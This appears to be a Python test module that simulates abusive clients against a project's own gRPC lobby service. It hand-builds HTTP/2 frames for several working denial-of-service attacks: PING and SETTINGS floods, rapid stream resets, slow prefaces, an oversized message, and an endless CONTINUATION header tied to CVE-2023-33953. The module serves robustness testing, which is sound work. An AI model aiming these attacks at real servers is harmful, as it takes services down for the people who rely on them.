"""What the abusers do at the gRPC port, in HTTP/2 written by hand."""

from abuse_kinds import BLOCK_BYTES, BYTE_PAUSE_SECONDS, Site, block
from abuse_line import Line

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 0x1, 0x4
FRAME_HEAD_BYTES = 9
ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 6: "FRAME_SIZE_ERROR",
          11: "ENHANCE_YOUR_CALM"}
CALLS_A_BLOCK = 100


class GrpcLine(Line):
    """A connection that understands why the server says goodbye."""

    def __init__(self):
        super().__init__()
        self._unread = b""

    def note(self, data: bytes, known: int):
        unread = self._unread + data[known:]
        at = 0
        while at + FRAME_HEAD_BYTES <= len(unread):
            end = at + FRAME_HEAD_BYTES + int.from_bytes(unread[at:at + 3], "big")
            if end > len(unread):
                break
            if unread[at + 3] == GOAWAY:
                error = at + FRAME_HEAD_BYTES + 4
                code = int.from_bytes(unread[error:error + 4], "big")
                self.answers[f"GOAWAY {ERRORS.get(code, code)}"] += 1
            at = end
        self._unread = unread[at:]


def http2_frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    head = len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
    return head + payload


def literal(name: bytes, value: bytes) -> bytes:
    """A header field that no table keeps (RFC 7541, 6.2.2)."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


CALL = b"".join(literal(*field) for field in (
    (b":method", b"POST"), (b":scheme", b"http"), (b":authority", b"bench"),
    (b":path", b"/tesela.lobby.v1.LobbyService/ListTables"), (b"te", b"trailers"),
    (b"content-type", b"application/grpc")))
EMPTY_MESSAGE = bytes(5)
CANCEL = (8).to_bytes(4, "big")


async def _begin(line: Line):
    await line.send(PREFACE + http2_frame(SETTINGS, 0, 0, b""))
    await line.answered()
    await line.send(http2_frame(SETTINGS, 1, 0, b""))


async def grpc_garbage(line: Line, _: Site):
    await line.send(bytes(range(255, -1, -1)) * 16)
    await line.wait(3600)


async def grpc_slow_prefaces(line: Line, _: Site):
    await line.trickle(PREFACE, BYTE_PAUSE_SECONDS)
    await line.wait(3600)


async def grpc_silent(line: Line, _: Site):
    await line.wait(3600)


async def grpc_ping_floods(line: Line, _: Site):
    await _begin(line)
    await line.flood(block(http2_frame(PING, 0, 0, bytes(8))))


async def grpc_settings_floods(line: Line, _: Site):
    await _begin(line)
    await line.flood(block(http2_frame(SETTINGS, 0, 0, b"")))


async def grpc_large_messages(line: Line, _: Site):
    await _begin(line)
    await line.send(http2_frame(HEADERS, END_HEADERS, 1, CALL) +
                    http2_frame(DATA, 0, 1, b"\0" + (2 ** 31).to_bytes(4, "big")))
    await line.flood(http2_frame(DATA, 0, 1, bytes(BLOCK_BYTES // 2)))


async def grpc_rapid_resets(line: Line, _: Site):
    """Calls that are cancelled as soon as they are made."""
    await _begin(line)
    stream = 1
    while not line.is_over:
        calls = b""
        for stream in range(stream, stream + 2 * CALLS_A_BLOCK, 2):
            calls += (http2_frame(HEADERS, END_HEADERS, stream, CALL) +
                      http2_frame(DATA, END_STREAM, stream, EMPTY_MESSAGE) +
                      http2_frame(RST_STREAM, 0, stream, CANCEL))
        stream += 2
        await line.send(calls)
        await line.wait(0.05)


async def grpc_bad_headers(line: Line, _: Site):
    """Calls that the server's library explains in its log."""
    await _begin(line)
    stream = 1
    while not line.is_over:
        await line.send(http2_frame(HEADERS, END_HEADERS | END_STREAM, stream,
                                    CALL + literal(b"te", b"nonsense")))
        stream += 2
        await line.wait(0.02)


async def grpc_endless_headers(line: Line, _: Site):
    """A header field whose length never ends (CVE-2023-33953)."""
    await _begin(line)
    await line.send(http2_frame(HEADERS, 0, 1, b"\0\x7f"))
    await line.flood(http2_frame(CONTINUATION, 0, 1, b"\x80" * (BLOCK_BYTES // 2)))


GRPC_KINDS = (grpc_garbage, grpc_slow_prefaces, grpc_silent, grpc_ping_floods,
              grpc_settings_floods, grpc_large_messages, grpc_rapid_resets, grpc_bad_headers,
              grpc_endless_headers)
